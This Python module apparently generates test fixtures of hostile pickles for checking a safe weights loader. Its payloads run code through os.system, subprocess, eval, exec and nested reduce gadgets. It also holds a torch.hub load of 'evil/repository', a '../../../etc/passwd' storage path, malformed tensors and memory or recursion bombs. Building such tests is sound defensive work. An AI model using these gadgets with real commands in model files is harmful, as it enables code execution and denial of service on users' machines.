"""Hostile pickles, written instruction by instruction, as an attacker would.

The payloads create a marker file beside the weights; `test_hostile_files.py` shows that Python's
own unpickler runs them.
"""

import pickle
import struct

import numpy as np

REBUILD = b"ctorch._utils\n_rebuild_tensor_v2\n"
FLOATS = b"ctorch\nFloatStorage\n"


def text(value):
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def integer(value):
    """LONG1."""
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def integers(values):
    """A tuple of integers."""
    return b"(" + b"".join(integer(value) for value in values) + b"t"


def call(module, name, *arguments):
    """GLOBAL, a tuple of texts, REDUCE."""
    return f"c{module}\n{name}\n(".encode() + b"".join(map(text, arguments)) + b"tR"


def payloads(marker):
    """Returns {name: pickled value}; in Python's unpickler many of them touch `marker`."""
    touch, source = f"touch {marker}", f"open({str(marker)!r}, 'w').close()"
    return {
        "os_system": call("os", "system", touch),
        "posix_system": call("posix", "system", touch),
        "subprocess": b"csubprocess\ncall\n((" + text("touch") + text(str(marker)) + b"ltR",
        "eval": call("builtins", "eval", source),
        "exec": call("builtins", "exec", source),
        "python2_eval": call("__builtin__", "eval", source),
        "numpy_runstring": call("numpy.testing._private.utils", "runstring", source, ""),
        "nested_reduce": b"cbuiltins\neval\n("
        + call("_codecs", "encode", source, "latin1")
        + b"tR",
        "reduce_of_reduce": b"cbuiltins\ngetattr\n(cos\npath\n" + text("os") + b"tR",
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\nlist\n" + text("append") + b"tR",
        "partial": b"cfunctools\npartial\n(cos\nsystem\n" + text(touch) + b"tR(tR",
        "import": call("builtins", "__import__", "antigravity"),
        "stack_global": text("os") + text("system") + b"\x93(" + text(touch) + b"tR",
        "stack_global_dotted": text("torch")
        + text("_utils.os.system")
        + b"\x93("
        + text(touch)
        + b"tR",
        "stack_global_of_numbers": b"K\x01K\x02\x93(tR",
        "dotted_global": call("numpy", "ndarray.__class__.__subclasses__"),
        "inst": b"(" + text(touch) + b"ios\nsystem\n",
        "obj": b"(cos\nsystem\n" + text(touch) + b"o",
        "newobj": b"cbuiltins\nobject\n)\x81",
        "newobj_ex": b"cbuiltins\nobject\n)}\x92",
        "extension_registry": b"\x82\x01",
        "copyreg": call("copyreg", "_reconstructor", "a", "b", "c"),
        "build_on_allowed_class": b"cnumpy\nndarray\n}" + text("x") + text("y") + b"sb",
        "build_on_dtype": b"cnumpy\ndtype\n(" + text("f4") + b"tR}" + text("__init__") + b"Nsb",
        "call_of_text": text(touch) + b"(tR",
        "call_of_storage": FLOATS + b"(K\x08tR",
        "persistent_id_in_text": b"Pos.system\n",
        "pickle_in_pickle": call("pickle", "loads", "cos\nsystem\n(S'x'\ntR."),
        "torch_load": call("torch", "load", str(marker)),
        "torch_subclass": call("torch._tensor", "_rebuild_from_type_v2", "x"),
        "hub": call("torch.hub", "load", "evil/repository", "model"),
        "file": call("builtins", "open", str(marker), "w"),
        "numpy_load": call("numpy", "load", str(marker)),
        "codec": call("_codecs", "encode", "x", "rot13"),
        "codec_unknown": call("_codecs", "decode", "x", "zip"),
        "object_dtype": pickle.dumps(np.array([{}, 1], object), 2)[2:-1],
        "structured_dtype": pickle.dumps(np.zeros(1, "i4,f4"), 2)[2:-1],
        "text_array": pickle.dumps(np.array(["a"]), 2)[2:-1],
        "endless_text_of_shape": array_of(laughs()),
        "unknown_instruction": b"\xf0",
    }


def laughs():
    """A tuple of two of itself, forty times over: without end to whoever prints or counts it."""
    return b")" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(40))


def array_of(shape, dtype=b"cnumpy\ndtype\n(X\x02\x00\x00\x00f4tR", data=b"C\x04abcd"):
    """An array by `_reconstruct`, with the pickled shape given."""
    empty = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01bt"
    return empty + b"R(K\x01" + shape + dtype + b"\x89" + data + b"tb"


def pickled(value):
    """A state dict of this one value, as `.pkl`."""
    return b"\x80\x02}" + text("weight") + value + b"s."


def pointer(kind=FLOATS, key="0", count=4, word="storage", view=b""):
    """A storage's persistent id."""
    return b"(" + text(word) + kind + text(key) + text("cpu") + integer(count) + view + b"tQ"


def tensor(shape=(4,), steps=(1,), offset=0, storage=None):
    """A tensor by `_rebuild_tensor_v2`."""
    storage = pointer() if storage is None else storage
    tail = integer(offset) + integers(shape) + integers(steps) + b"\x89}tR"
    return REBUILD + b"(" + storage + tail


def tensors():
    """Returns {name: pickled tensor} whose numbers do not lie where they say."""
    huge = 2**62
    return {
        "huge_shape": tensor(shape=(huge,)),
        "shape_beyond_storage": tensor(shape=(5,)),
        "broadcast_bomb": tensor(shape=(2**20, 2**20), steps=(0, 0)),
        "negative_axis": tensor(shape=(-4,)),
        "negative_step": tensor(steps=(-1,)),
        "negative_offset": tensor(shape=(1,), offset=-1),
        "offset_beyond_storage": tensor(shape=(1,), offset=4),
        "step_beyond_storage": tensor(shape=(2,), steps=(huge,)),
        "steps_of_other_length": tensor(steps=(1, 1)),
        "forty_axes": tensor(shape=(1,) * 40, steps=(1,) * 40),
        "huge_storage": tensor(storage=pointer(count=huge)),
        "negative_storage": tensor(storage=pointer(count=-4)),
        "storage_of_other_count": tensor(storage=pointer(count=3)),
        "storage_of_other_dtype": tensor(storage=pointer(kind=b"ctorch\nDoubleStorage\n")),
        "complex_storage": tensor(storage=pointer(kind=b"ctorch\nComplexFloatStorage\n")),
        "quantized_storage": tensor(storage=pointer(kind=b"ctorch\nQInt8Storage\n")),
        "storage_without_class": tensor(storage=pointer(kind=text("FloatStorage"))),
        "storage_missing": tensor(storage=pointer(key="1")),
        "storage_outside": tensor(storage=pointer(key="../../../etc/passwd")),
        "storage_view": tensor(storage=pointer(view=integers((1, 0, 2)))),
        "other_persistent_id": tensor(storage=pointer(word="module")),
        "persistent_id_of_number": tensor(storage=b"K\x01Q"),
        "persistent_id_of_nothing": tensor(storage=b")Q"),
        "tensor_without_storage": tensor(storage=b"N"),
        "float_shape": REBUILD + b"(" + pointer() + b"K\x00G" + bytes(8) + b"\x85K\x01\x85\x89}tR",
        "parameter_of_text": call("torch._utils", "_rebuild_parameter", "a", "b", "c"),
    }


def pickles():
    """Returns {name: bytes} of damaged pickles, and of pickles that would take memory or time."""
    name, encode = text("x" * 200_000), b"c_codecs\nencode\nh\x00\x85R"
    pairs, to_dict = (text("k") + b"N\x86") * 10_000, b"ccollections\nOrderedDict\nh\x00\x85R"
    lists = b"".join(b"(" + b"h%c" % i * 1000 + b"lq%c" % (i + 1) for i in range(9))
    return {
        "codec_bomb": pickled(b"(" + name + b"q\x00" + encode * 2000 + b"l"),
        "dict_bomb": pickled(b"((" + pairs + b"lq\x00" + to_dict * 1000 + b"l"),
        "deep_tuple_as_key": pickled(b"})" + b"\x85" * 100_000 + b"Ns"),
        "many_instructions": pickled(b"(" + b"N" * 500_000 + b"t"),
        "deep_lists": pickled(b"]" * 100_000 + b"a" * 99_999),
        "deep_marks": pickled(b"(" * 100_000 + b"t" * 100_000),
        "laughing_lists": pickled(b"(]q\x00" + lists + b"l"),
        "list_in_itself": b"\x80\x02]q\x00h\x00a.",
        "huge_text": b"\x80\x02X\xff\xff\xff\xffabc",
        "huge_bytes8": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"abc",
        "huge_bytearray8": b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b"abc",
        "huge_long4": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"abc",
        "negative_long4": b"\x80\x02\x8b" + struct.pack("<i", -1) + b"abc",
        "long4": pickled(b"\x8b" + struct.pack("<i", 100_000) + b"\xff" * 100_000),
        "endless_line": b"\x80\x02c" + b"a" * 100_000,
        "memo_far_away": pickled(b"(Nr\xff\xff\xff\xffj\xfe\xff\xff\xffl"),
        "mark_missing": b"\x80\x02t.",
        "stack_empty": b"\x80\x02R.",
        "two_values": b"\x80\x02}}.",
        "no_stop": b"\x80\x02}",
        "odd_pairs": b"\x80\x02}(K\x01u.",
        "list_as_dict": b"\x80\x02]" + text("a") + b"Ns.",
        "no_dict": pickle.dumps([np.ones(3)], 2),
        "no_arrays": pickle.dumps({"epoch": 3, "name": "x"}, 2),
        "numbered_arrays": pickle.dumps({1: np.ones(3)}, 2),
        "huge_array": pickled(array_of(integers((2**40, 2**18)))),
        "negative_array": pickled(array_of(integers((-1,)))),
        "short_array": pickled(array_of(integers((2,)))),
        "long_array": pickled(array_of(integers((0,)))),
        "array_without_state": pickled(b"cnumpy.core.multiarray\n_reconstruct\n(K\x00tR"),
        "array_of_unicode": pickled(array_of(integers((1,)), data=text("\u20ac" * 4))),
    }
